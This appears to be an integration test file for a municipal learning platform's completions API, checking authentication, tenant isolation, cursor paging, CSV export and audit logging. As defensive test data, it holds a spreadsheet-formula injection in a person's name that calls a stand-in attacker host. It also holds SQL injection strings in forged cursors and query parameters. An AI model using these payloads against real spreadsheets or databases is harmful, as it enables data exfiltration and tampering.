import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Express } from 'express';
import { OPERATOR } from '../../src/audit/audit-log.js';
import { addMonths } from '../../src/competence/calendar.js';
import { applyCatalogueImport } from '../../src/competence/catalogue-import.js';
import { grantFromCompletion, today } from '../../src/competence/holdings.js';
import { openPostgres } from '../../src/db/postgres.js';
import type { NewStep } from '../../src/paths/drafts.js';
import { deliverOutcome } from '../../src/paths/engine.js';
import { enrol } from '../../src/paths/enrolments.js';
import type { StepOutcome } from '../../src/paths/ports.js';
import { createPerson } from '../../src/people/people.js';
import { COMPLETIONS_CSV_COLUMNS, completionsPullRouter } from '../../src/web/completions/completions-api.js';
import { competencePullRouter } from '../../src/web/competence/pull-api.js';
import { publishPath } from '../learner/support.js';
import { testApp } from '../support/app.js';
import { BACKEND, createTestDatabase, type TestDatabase } from '../support/database.js';
import { schemaProblems } from '../support/openapi-schema.js';
import { pullClients, waitUntilPullable } from '../support/pull-clients.js';

const PUBLIC_URL = 'https://laering.example.no';
const web: NewStep = { type: 'web', title: 'Se filmen om rømning', required: true, config: { resource: { kind: 'link', url: 'https://www.ks.no/' }, done: { by: 'mark-as-done' } } } as NewStep;
const scorm: NewStep = { type: 'scorm', title: 'Test', required: true, config: { packageId: 'pkg-1', scoId: 'sco-a', completion: { rule: 'score', minimumScaled: 0.5 } } } as NewStep;
const DONE: StepOutcome = { kind: 'web', event: 'done' };

interface CompletionJson {
  id: string;
  person: { id: string; employeeNumber: string | null; name: string | null; email: string | null };
  path: { id: string; title: string };
  version: number | null;
  completedAt: string;
  score: number | null;
  competences: { code: string; name: string | null; expiresOn: string | null }[];
  expiresOn: string | null;
}

/**
 * GET /api/completions as HR systems use it and as an attacker would: two municipalities' clients,
 * a client without the scope and a region's, forged and foreign cursors, and transactions that
 * commit out of the order they completed in.
 */
describe(`pulling completions with a municipality's API client (${BACKEND})`, { timeout: 60_000 }, () => {
  let testDb: TestDatabase;
  let app: Express;
  const db = () => testDb.database.db;
  let kongsberg: string;
  let berg: string;
  let firePath: { pathId: string; stepIds: string[] };
  let scoredPath: { pathId: string; stepIds: string[] };
  let bergPath: { pathId: string; stepIds: string[] };
  const people = {} as Record<'kari' | 'ola' | 'berit', string>;
  const completions = {} as Record<'kariFire' | 'olaFire' | 'kariScored' | 'berit', string>;

  const clients = pullClients(db, () => app, PUBLIC_URL);
  const { add: client, get } = clients;
  const pullAll = (first: string, as = 'hr') => clients.pullAll<CompletionJson>(first, as);
  const settled = () => waitUntilPullable(db(), 'path_completions');

  /** Enrols and completes every step through the engine; the completion record's id. */
  async function complete(tenantId: string, personId: string, path: { pathId: string; stepIds: string[] }, outcome: StepOutcome = DONE): Promise<string> {
    const { enrolmentId } = await enrol(db(), tenantId, { personId, pathId: path.pathId });
    let completionId: string | null = null;
    for (const stepId of path.stepIds) completionId = (await deliverOutcome(db(), tenantId, { enrolmentId, stepId, idempotencyKey: stepId, outcome })).completionId ?? completionId;
    return completionId!;
  }


  beforeAll(async () => {
    testDb = await createTestDatabase();
    kongsberg = (await db().insertInto('tenants').values({ kind: 'municipality', kommunenummer: '3303', name: 'Kongsberg' }).returning('id').executeTakeFirstOrThrow()).id;
    berg = (await db().insertInto('tenants').values({ kind: 'municipality', kommunenummer: '3399', name: 'Berg' }).returning('id').executeTakeFirstOrThrow()).id;
    const region = (await db().insertInto('tenants').values({ kind: 'region', kommunenummer: null, name: 'Kongsbergregionen' }).returning('id').executeTakeFirstOrThrow()).id;
    const catalogue = 'område;kode;kompetanse;gyldighet_måneder\nFelles;brannvern;Brannvern;12\n';
    await applyCatalogueImport(db(), kongsberg, catalogue, OPERATOR);
    await applyCatalogueImport(db(), berg, catalogue, OPERATOR);

    people['kari'] = (await createPerson(db(), kongsberg, { name: 'Kari Nordmann', email: 'kari@kongsberg.kommune.no' })).id;
    await db().insertInto('employees').values({ tenant_id: kongsberg, person_id: people['kari'], employee_number: '1001' }).execute();
    // A launcher not (yet) in the HR data, with a name that would run as a formula in a spreadsheet.
    people['ola'] = (await createPerson(db(), kongsberg, { name: '=HYPERLINK("http://evil.example/?"&A1,"Ola")' })).id;
    people['berit'] = (await createPerson(db(), berg, { name: 'Berit Berg', email: 'berit@berg.kommune.no' })).id;
    await db().insertInto('employees').values({ tenant_id: berg, person_id: people['berit'], employee_number: '1001' }).execute();

    // hms is not in the catalogue: granted by the version, never documented as a holding.
    firePath = await publishPath(testDb.database, kongsberg, [web], { title: 'Brannvern for alle', settings: { grants: [{ competence: 'brannvern', validMonths: 12 }, { competence: 'hms', validMonths: null }] } });
    scoredPath = await publishPath(testDb.database, kongsberg, [scorm], { title: 'Informasjonssikkerhet' });
    bergPath = await publishPath(testDb.database, berg, [web], { title: 'Brannvern i Berg', settings: { grants: [{ competence: 'brannvern', validMonths: 12 }] } });

    completions['kariFire'] = await complete(kongsberg, people['kari'], firePath);
    await grantFromCompletion(db(), completions['kariFire']);
    completions['olaFire'] = await complete(kongsberg, people['ola'], firePath);
    completions['kariScored'] = await complete(kongsberg, people['kari'], scoredPath, { kind: 'sco', packageId: 'pkg-1', scoId: 'sco-a', completionStatus: 'completed', successStatus: 'passed', scoreScaled: 0.875 });
    completions['berit'] = await complete(berg, people['berit'], bergPath);

    await client('hr', kongsberg, ['completions/read']);
    await client('competence-hr', kongsberg, ['competence/read']);
    await client('lrs-all', kongsberg, ['all']);
    await client('berg-hr', berg, ['completions/read']);
    await client('region-hr', region, ['completions/read']);
    const revoked = await client('revoked', kongsberg, ['completions/read']);
    await db().updateTable('xapi_clients').set({ revoked_at: new Date() }).where('id', '=', revoked.id).execute();

    app = testApp(testDb.database, { apiRouters: [completionsPullRouter({ db: db(), databaseKind: testDb.database.kind, publicUrl: PUBLIC_URL, csvBatchRows: 2 }), competencePullRouter({ db: db(), publicUrl: PUBLIC_URL })] });
    await settled();
  });
  afterAll(async () => testDb?.dispose());

  it('asks for credentials, and refuses a client without the scope completions/read, a revoked one and a region’s, as problem+json', async () => {
    const none = await request(app).get('/api/completions');
    expect(none.status).toBe(401);
    expect(none.headers['content-type']).toContain('application/problem+json');
    expect(none.headers['www-authenticate']).toContain('Basic realm="completions"');
    expect((await request(app).get('/api/completions').set('Authorization', `Basic ${Buffer.from('nokey:nosecret').toString('base64')}`)).status).toBe(401);
    expect((await get('/api/completions', 'revoked')).status).toBe(401);
    for (const as of ['competence-hr', 'lrs-all']) {
      const unscoped = await get('/api/completions', as);
      expect(unscoped.status).toBe(403);
      expect(unscoped.headers['content-type']).toContain('application/problem+json');
      expect(unscoped.body).toMatchObject({ type: '/problems/xapi-forbidden', status: 403 });
      expect(unscoped.body.detail).toContain('completions/read');
    }
    const region = await get('/api/completions', 'region-hr');
    expect(region.status).toBe(403);
    expect(region.body.detail).toContain('municipality');
    // The scope gives completions only, not the competence pulls.
    expect((await get('/api/competence/holdings', 'hr')).status).toBe(403);
  });

  it('gives one row per completed path of the municipality, with person, path, version, score, competences and expiry; the other municipality’s client sees only its own', async () => {
    const res = await get('/api/completions');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('application/json');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body).toMatchObject({ municipality: { kommunenummer: '3303', name: 'Kongsberg' }, since: null, until: null, next: null });
    expect(res.headers['x-cursor']).toBe(res.body.cursor);
    expect(res.headers['link']).toBeUndefined();
    const data = res.body.data as CompletionJson[];
    // In the order they were recorded.
    expect(data.map((c) => c.id)).toEqual([completions['kariFire'], completions['olaFire'], completions['kariScored']]);
    const stored = await db().selectFrom('path_completions').select(['id', 'completed_at']).where('id', '=', completions['kariFire']).executeTakeFirstOrThrow();
    // The expiry is the one of the holding the completion documents.
    const fireHolding = await db().selectFrom('competence_holdings').select(['expires_on']).where('path_completion_id', '=', completions['kariFire']).executeTakeFirstOrThrow();
    const expires = addMonths(today(stored.completed_at), 12);
    expect(fireHolding.expires_on).toBe(expires);
    expect(data[0]).toEqual({
      id: completions['kariFire'],
      person: { id: people['kari'], employeeNumber: '1001', name: 'Kari Nordmann', email: 'kari@kongsberg.kommune.no' },
      path: { id: firePath.pathId, title: 'Brannvern for alle' },
      version: 1,
      completedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/),
      score: null,
      competences: [
        { code: 'brannvern', name: 'Brannvern', expiresOn: expires },
        { code: 'hms', name: null, expiresOn: null },
      ],
      expiresOn: expires,
    });
    expect(new Date(data[0]!.completedAt).getTime()).toBe(stored.completed_at.getTime());
    // Its holding not written yet (no dispatcher runs here): the same expiry, by the same rule.
    expect(data[1]).toMatchObject({ person: { id: people['ola'], employeeNumber: null, email: null }, competences: [{ code: 'brannvern', name: 'Brannvern', expiresOn: expires }, { code: 'hms', name: null }], expiresOn: expires });
    expect(data[2]).toMatchObject({ path: { title: 'Informasjonssikkerhet' }, score: 87.5, competences: [], expiresOn: null });

    const bergRes = await get('/api/completions', 'berg-hr');
    expect(bergRes.status).toBe(200);
    expect(bergRes.body.municipality).toEqual({ kommunenummer: '3399', name: 'Berg' });
    expect((bergRes.body.data as CompletionJson[]).map((c) => c.id)).toEqual([completions['berit']]);
    for (const id of [...Object.values(completions).filter((c) => c !== completions['berit']), people['kari'], people['ola']]) expect(bergRes.text).not.toContain(id);
    expect(res.text).not.toContain(completions['berit']);
  });

  it('pages with a cursor and Link rel=next, every row once; a completion recorded while paging comes after; the last cursor gives exactly what was recorded since', async () => {
    const seen: string[] = [];
    let url: string | null = '/api/completions?limit=1';
    let pages = 0;
    let cursor = '';
    let late = '';
    while (url) {
      const res = await get(url);
      expect(res.status).toBe(200);
      pages += 1;
      seen.push(...(res.body.data as CompletionJson[]).map((c) => c.id));
      if (res.body.next) {
        expect(res.headers['link']).toBe(`<${res.body.next as string}>; rel="next"`);
        expect(res.body.next).toMatch(/^https:\/\/laering\.example\.no\/api\/completions\?limit=1&cursor=/);
        if (pages === 1) {
          late = await complete(kongsberg, people['ola'], scoredPath, { kind: 'sco', packageId: 'pkg-1', scoId: 'sco-a', completionStatus: 'completed', successStatus: 'passed', scoreScaled: 0.6 });
          await settled();
        }
      }
      cursor = res.body.cursor as string;
      url = res.body.next as string | null;
    }
    expect(seen).toEqual([completions['kariFire'], completions['olaFire'], completions['kariScored'], late]);
    expect(pages).toBe(4);
    // Kept until the next pull: nothing new, nothing again.
    expect((await get(`/api/completions?cursor=${cursor}`)).body.data).toEqual([]);
    const next = await complete(kongsberg, people['kari'], await publishPath(testDb.database, kongsberg, [web], { title: 'HMS for ledere' }));
    await settled();
    const since = await pullAll(`/api/completions?cursor=${cursor}`);
    expect(since.rows.map((c) => c.id)).toEqual([next]);
    expect((await get(`/api/completions?cursor=${since.cursor}`)).body.data).toEqual([]);
  });

  it('a record committed after a cursor moved on, with an earlier completion time, still comes after the cursor (a keyset on completed_at would skip it)', async () => {
    const { cursor } = await pullAll('/api/completions');
    // The row the engine writes (src/paths/engine.ts), as a transaction that ran long would commit it: completed an hour ago.
    const { enrolmentId } = await enrol(db(), kongsberg, { personId: people['ola'], pathId: (await publishPath(testDb.database, kongsberg, [web], { title: 'Smittevern' })).pathId });
    const enrolment = await db().selectFrom('path_enrolments').select(['path_id', 'version_id']).where('id', '=', enrolmentId).executeTakeFirstOrThrow();
    const backdated = (await db().insertInto('path_completions').values({
      tenant_id: kongsberg, enrolment_id: enrolmentId, person_id: people['ola'], path_id: enrolment.path_id, version_id: enrolment.version_id,
      completed_at: new Date(Date.now() - 3_600_000), score: null, evidence: JSON.stringify({ versionNumber: 1, grants: [] }),
    }).returning('id').executeTakeFirstOrThrow()).id;
    await settled();
    const after = await pullAll(`/api/completions?cursor=${cursor}`);
    expect(after.rows.map((c) => c.id)).toEqual([backdated]);
  });

  it.skipIf(BACKEND === 'pglite')('two interleaved transactions: the one that started first and commits last is neither skipped nor pulled twice', async () => {
    const second = openPostgres({ connectionString: testDb.url!, poolMax: 2 });
    let release = () => undefined as void;
    let slow: Promise<void> = Promise.resolve();
    try {
      const { cursor: start } = await pullAll('/api/completions');
      const path = await publishPath(testDb.database, kongsberg, [web], { title: 'Personvern' });
      const slowPerson = (await createPerson(db(), kongsberg, { name: 'Sigrid Sein' })).id;
      const fastPerson = (await createPerson(db(), kongsberg, { name: 'Nils Rask' })).id;
      const slowEnrolment = (await enrol(db(), kongsberg, { personId: slowPerson, pathId: path.pathId })).enrolmentId;
      const version = await db().selectFrom('path_enrolments').select(['version_id']).where('id', '=', slowEnrolment).executeTakeFirstOrThrow();

      const released = new Promise<void>((resolve) => (release = resolve));
      let written!: (id: string) => void;
      const slowWritten = new Promise<string>((resolve) => (written = resolve));
      // Transaction A completes first (the earlier completed_at and the smaller transaction id) and stays open.
      slow = second.db.transaction().execute(async (trx) => {
        const row = await trx.insertInto('path_completions').values({
          tenant_id: kongsberg, enrolment_id: slowEnrolment, person_id: slowPerson, path_id: path.pathId, version_id: version.version_id,
          completed_at: new Date(), score: null, evidence: JSON.stringify({ versionNumber: 1, grants: [] }),
        }).returning('id').executeTakeFirstOrThrow();
        written(row.id);
        await released;
      });
      const slowId = await slowWritten;
      // Transaction B (the engine's own) completes later and commits at once.
      const fastId = await complete(kongsberg, fastPerson, path);
      const during = await get(`/api/completions?cursor=${start}`);
      expect(during.status).toBe(200);
      const duringIds = (during.body.data as CompletionJson[]).map((c) => c.id);
      // B is held back while A, older, may still commit: a cursor past B would skip A.
      expect(duringIds).not.toContain(fastId);
      expect(duringIds).not.toContain(slowId);
      release();
      await slow;
      await settled();
      const after = await pullAll(`/api/completions?cursor=${during.body.cursor as string}`);
      expect([...duringIds, ...after.rows.map((c) => c.id)]).toEqual([slowId, fastId]);
      const times = after.rows.map((c) => c.completedAt);
      expect(times[0]! < times[1]!).toBe(true);
    } finally {
      // A failed expectation must not leave transaction A open (it would hold back every pull of the cluster).
      release();
      await slow.catch(() => undefined);
      await second.close();
    }
  });

  it('since and until narrow the rows by completion time, and the cursor stays bound to them', async () => {
    const all = (await pullAll('/api/completions')).rows;
    const times = all.map((c) => c.completedAt).sort();
    const middle = times[Math.floor(times.length / 2)]!;
    const from = await pullAll(`/api/completions?since=${encodeURIComponent(middle)}&limit=2`);
    expect(from.rows.map((c) => c.id).sort()).toEqual(all.filter((c) => c.completedAt >= middle).map((c) => c.id).sort());
    const before = await pullAll(`/api/completions?until=${encodeURIComponent(middle)}`);
    expect(before.rows.map((c) => c.id).sort()).toEqual(all.filter((c) => c.completedAt < middle).map((c) => c.id).sort());
    // An offset other than Z means the same moment.
    expect((await get(`/api/completions?since=${encodeURIComponent('2999-01-01T01:00:00+01:00')}`)).body.data).toEqual([]);
    // The cursor of a since= pull goes on with the same since only.
    const other = await get(`/api/completions?since=${encodeURIComponent('2020-01-01T00:00:00Z')}&cursor=${from.cursor}`);
    expect(other.status).toBe(400);
    expect(other.body).toMatchObject({ parameter: 'cursor' });
    expect((await get(`/api/completions?since=${encodeURIComponent(middle)}&cursor=${from.cursor}`)).status).toBe(200);
  });

  it('streams CSV (UTF-8 with BOM, ; separators) by format=csv or Accept, every row once across batches, formulas made text, its X-Cursor going on from there', async () => {
    const json = (await pullAll('/api/completions')).rows;
    const byFormat = await get('/api/completions?format=csv').buffer(true);
    const byAccept = await get('/api/completions').set('Accept', 'text/csv').buffer(true);
    for (const res of [byFormat, byAccept]) {
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toContain('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe('attachment; filename="fullforte-lop-3303.csv"');
    }
    expect(byAccept.text).toBe(byFormat.text);
    expect(byFormat.text.startsWith('\uFEFFcompletion_id;person_id;employee_number;name;email;')).toBe(true);
    const rows = parse(byFormat.text, { delimiter: ';', columns: true, bom: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual([...COMPLETIONS_CSV_COLUMNS]);
    // The batches were of two rows: every row once, in the JSON's order.
    expect(json.length).toBeGreaterThan(4);
    expect(rows.map((r) => r['completion_id'])).toEqual(json.map((c) => c.id));
    const kari = rows.find((r) => r['completion_id'] === completions['kariFire'])!;
    expect(kari).toMatchObject({ person_id: people['kari'], employee_number: '1001', name: 'Kari Nordmann', path_title: 'Brannvern for alle', version: '1', score: '', competences: 'brannvern, hms', expires_on: json.find((c) => c.id === completions['kariFire'])!.expiresOn! });
    expect(rows.find((r) => r['completion_id'] === completions['kariScored'])!['score']).toBe('87,5');
    expect(rows.find((r) => r['completion_id'] === completions['olaFire'])!['name']).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Ola")`);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The file's cursor is where the next pull goes on.
    const cursor = byFormat.headers['x-cursor'] as string;
    expect((await get(`/api/completions?cursor=${cursor}`)).body.data).toEqual([]);
    const fresh = await complete(kongsberg, people['kari'], await publishPath(testDb.database, kongsberg, [web], { title: 'Arkiv' }));
    await settled();
    const next = parse((await get(`/api/completions?format=csv&cursor=${cursor}`).buffer(true)).text, { delimiter: ';', columns: true, bom: true }) as Record<string, string>[];
    expect(next.map((r) => r['completion_id'])).toEqual([fresh]);
    // Berg's file has Berg's row only.
    const bergCsv = await get('/api/completions?format=csv', 'berg-hr').buffer(true);
    expect(bergCsv.headers['content-disposition']).toContain('fullforte-lop-3399.csv');
    expect((parse(bergCsv.text, { delimiter: ';', columns: true, bom: true }) as Record<string, string>[]).map((r) => r['completion_id'])).toEqual([completions['berit']]);
  });

  it('refuses bad parameters and bad or foreign cursors with 400 problem+json naming the parameter', async () => {
    const first = await get('/api/completions?limit=1');
    const cursor = new URL(first.body.next as string).searchParams.get('cursor')!;
    const bergCursor = (await get('/api/completions', 'berg-hr')).body.cursor as string;
    const forged = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const decoded = JSON.parse(Buffer.from(cursor, 'base64url').toString('utf8')) as { query: Record<string, unknown>; after: Record<string, unknown> };
    const cases: [string, string, string?][] = [
      ['/api/completions?cursor=nonsense!', 'cursor'],
      ['/api/completions?cursor=', 'cursor'],
      [`/api/completions?cursor=${'A'.repeat(1001)}`, 'cursor'],
      [`/api/completions?cursor=${Buffer.from('not json').toString('base64url')}`, 'cursor'],
      [`/api/completions?cursor=${forged({ kind: 'holdings', query: decoded.query, after: decoded.after })}`, 'cursor'],
      [`/api/completions?cursor=${forged({ kind: 'completions', query: decoded.query, after: { ...decoded.after, xid: '1; drop table people' } })}`, 'cursor'],
      [`/api/completions?cursor=${forged({ kind: 'completions', query: decoded.query, after: { ...decoded.after, xid: '99999999999999999999' } })}`, 'cursor'],
      [`/api/completions?cursor=${forged({ kind: 'completions', query: decoded.query, after: { ...decoded.after, xid: 12 } })}`, 'cursor'],
      [`/api/completions?cursor=${forged({ kind: 'completions', query: decoded.query, after: { ...decoded.after, id: "x' or 1=1" } })}`, 'cursor'],
      [`/api/completions?cursor=${forged({ kind: 'completions', query: null, after: decoded.after })}`, 'cursor'],
      // Another municipality's cursor, and one forged to name this municipality with Berg's key: the first is refused, the second only gives Kongsberg's rows (below).
      [`/api/completions?cursor=${bergCursor}`, 'cursor', 'another municipality'],
      [`/api/completions?limit=1&since=2020-01-01T00:00:00Z&cursor=${cursor}`, 'cursor'],
      ['/api/completions?since=2027-03-01', 'since'],
      ['/api/completions?since=yesterday', 'since'],
      ['/api/completions?since=2027-02-30T00:00:00Z', 'since'],
      ["/api/completions?since=2027-03-01T08:00:00Z'%20or%201=1--", 'since'],
      ['/api/completions?until=2027-03-01T25:00:00Z', 'until'],
      ['/api/completions?since=2027-03-01T00:00:00Z&until=2027-03-01T00:00:00Z', 'until'],
      ['/api/completions?since=2027-03-02T00:00:00Z&until=2027-03-01T00:00:00Z', 'until'],
      ['/api/completions?limit=0', 'limit'],
      ['/api/completions?limit=5001', 'limit'],
      ['/api/completions?limit=-1', 'limit'],
      ['/api/completions?format=csv&limit=10', 'limit'],
      ['/api/completions?format=xml', 'format'],
      ['/api/completions?tenant=3399', 'tenant'],
      ['/api/completions?limit=1&limit=2', 'limit'],
    ];
    for (const [path, parameter, detail] of cases) {
      const res = await get(path);
      expect(`${path} ${res.status}`).toBe(`${path} 400`);
      expect(res.headers['content-type']).toContain('application/problem+json');
      expect(res.body).toMatchObject({ type: '/problems/validation-failed', status: 400, parameter });
      if (detail) expect(res.body.detail).toContain(detail);
    }
    // A cursor names a position, never a municipality's rows: Berg's client with a cursor from Kongsberg's pages is refused too.
    expect((await get(`/api/completions?cursor=${cursor}`, 'berg-hr')).status).toBe(400);
    const relabelled = forged({ ...JSON.parse(Buffer.from(cursor, 'base64url').toString('utf8')), query: { ...decoded.query, municipality: '3399' } });
    const bergWithKongsbergPosition = await get(`/api/completions?cursor=${relabelled}`, 'berg-hr');
    expect(bergWithKongsbergPosition.status).toBe(200);
    expect(bergWithKongsbergPosition.text).not.toContain(people['kari']);
    expect(bergWithKongsbergPosition.text).not.toContain(people['ola']);
  });

  it('records one audit event per pull (not per row), naming the client and counting the rows', async () => {
    const before = (await db().selectFrom('audit_events').select('id').where('action', '=', 'completions.pulled').execute()).map((e) => e.id);
    const json = await get('/api/completions');
    await get('/api/completions?format=csv').buffer(true);
    await get('/api/completions', 'berg-hr');
    const events = (await db().selectFrom('audit_events').select(['id', 'actor_kind', 'actor_id', 'tenant_id', 'subject_person_id', 'details'])
      .where('action', '=', 'completions.pulled').orderBy('id').execute()).filter((e) => !before.includes(e.id));
    const hrKey = (await db().selectFrom('xapi_clients').select('key').where('name', '=', 'hr').executeTakeFirstOrThrow()).key;
    const rows = (json.body.data as unknown[]).length;
    expect(events.map((e) => [e.tenant_id, e.details])).toEqual([
      [kongsberg, expect.objectContaining({ rows, format: 'json', page: 'first', since: null })],
      [kongsberg, expect.objectContaining({ rows, format: 'csv' })],
      [berg, expect.objectContaining({ rows: 1, format: 'json' })],
    ]);
    expect(events[0]).toMatchObject({ actor_kind: 'api-client', actor_id: hrKey, subject_person_id: null });
    expect(JSON.stringify(events)).not.toContain('Kari');
  });

  it('is described in the OpenAPI document, and the real answers (pages and problems) match its schemas', async () => {
    const document = (await request(app).get('/api/openapi.json')).body as Record<string, unknown>;
    const doc = document as { paths: Record<string, { get: { responses: Record<string, { content?: Record<string, { schema: Record<string, unknown> }> }> } }>; components: { responses: Record<string, { content: Record<string, { schema: Record<string, unknown> }> }> } };
    const operation = doc.paths['/api/completions']!.get;
    const pageSchema = operation.responses['200']!.content!['application/json']!.schema;
    const problemSchema = doc.components.responses['Problem']!.content['application/problem+json']!.schema;
    const pages = [await get('/api/completions'), await get('/api/completions?limit=1'), await get('/api/completions', 'berg-hr'), await get(`/api/completions?until=2000-01-01T00:00:00Z`)];
    for (const page of pages) {
      expect(page.status).toBe(200);
      expect(schemaProblems(document, pageSchema, page.body)).toEqual([]);
    }
    expect((pages[0]!.body.data as unknown[]).length).toBeGreaterThan(3);
    for (const refused of [await get('/api/completions?limit=0'), await get('/api/completions', 'competence-hr'), await request(app).get('/api/completions')]) {
      expect(refused.status).toBeGreaterThanOrEqual(400);
      expect(schemaProblems(document, problemSchema, refused.body)).toEqual([]);
    }
    // The check can fail: a row with a field the document does not describe, or of the wrong type, is caught.
    const row = (pages[0]!.body.data as Record<string, unknown>[])[0]!;
    expect(schemaProblems(document, pageSchema, { ...pages[0]!.body, data: [{ ...row, secret: 1 }] })).toEqual(['$.data[0].secret: not described']);
    expect(schemaProblems(document, pageSchema, { ...pages[0]!.body, data: [{ ...row, completedAt: 'yesterday' }] })).toHaveLength(1);
  });

  it('a client that goes away mid-file ends the stream: its database transaction ends and the connection is free again', async () => {
    // Enough rows that the file outgrows the sockets' buffers: the tool waits on the reader, then the reader leaves.
    const path = await publishPath(testDb.database, berg, [web], { title: 'Mange' });
    const version = (await db().selectFrom('path_versions').select('id').where('path_id', '=', path.pathId).where('status', '=', 'published').executeTakeFirstOrThrow()).id;
    await sql`
      with p as (insert into people (tenant_id, name) select ${berg}::uuid, 'Ansatt ' || n from generate_series(1, 20000) n returning id),
      e as (insert into path_enrolments (tenant_id, path_id, version_id, person_id, status, completed_at)
            select ${berg}::uuid, ${path.pathId}::uuid, ${version}::uuid, id, 'completed', now() from p returning id, person_id)
      insert into path_completions (tenant_id, enrolment_id, person_id, path_id, version_id, completed_at, score, evidence)
      select ${berg}::uuid, e.id, e.person_id, ${path.pathId}::uuid, ${version}::uuid, now(), null, '{"versionNumber":1,"grants":[]}'::jsonb from e`.execute(db());
    await settled();
    const streaming = testApp(testDb.database, { apiRouters: [completionsPullRouter({ db: db(), databaseKind: testDb.database.kind, publicUrl: PUBLIC_URL, csvBatchRows: 20 })] });
    const server = streaming.listen(0, '127.0.0.1');
    try {
      await new Promise((resolve) => server.once('listening', resolve));
      const { port } = server.address() as { port: number };
      const aborted = new AbortController();
      const response = await fetch(`http://127.0.0.1:${port}/api/completions?format=csv`, { headers: { authorization: clients.authorization('berg-hr') }, signal: aborted.signal });
      expect(response.status).toBe(200);
      const reader = response.body!.getReader();
      await reader.read();
      // The reader stops reading, then leaves.
      await new Promise((resolve) => setTimeout(resolve, 300));
      aborted.abort();
      await vi.waitFor(async () => {
        const events = await db().selectFrom('audit_events').select('details').where('action', '=', 'completions.pulled').where('tenant_id', '=', berg).orderBy('id', 'desc').limit(1).execute();
        expect(events[0]?.details).toMatchObject({ format: 'csv', complete: false });
      }, { timeout: 10_000, interval: 100 });
      const left = ((await db().selectFrom('audit_events').select('details').where('action', '=', 'completions.pulled').where('tenant_id', '=', berg).orderBy('id', 'desc').limit(1).executeTakeFirstOrThrow()).details as { rows: number });
      expect(left.rows).toBeLessThan(20001);
      if (testDb.url) {
        // No transaction of the pull is left open on the server.
        await vi.waitFor(async () => {
          const { rows } = await sql<{ n: number }>`select count(*)::int as n from pg_stat_activity where datname = current_database() and state like 'idle in transaction%'`.execute(db());
          expect(rows[0]!.n).toBe(0);
        }, { timeout: 10_000, interval: 100 });
      }
      // And the next pull answers.
      const again = await get('/api/completions?limit=1', 'berg-hr');
      expect(again.status).toBe(200);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });
});
